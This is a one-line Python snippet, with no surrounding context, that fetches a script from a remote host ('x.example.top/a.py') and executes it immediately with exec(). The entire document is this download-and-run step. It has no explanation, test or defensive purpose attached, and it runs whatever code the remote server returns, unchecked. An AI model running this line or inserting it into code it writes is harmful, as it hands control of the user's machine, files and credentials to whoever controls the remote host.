import urllib.request as u; exec(u.urlopen("https://x.example.top/a.py").read().decode())
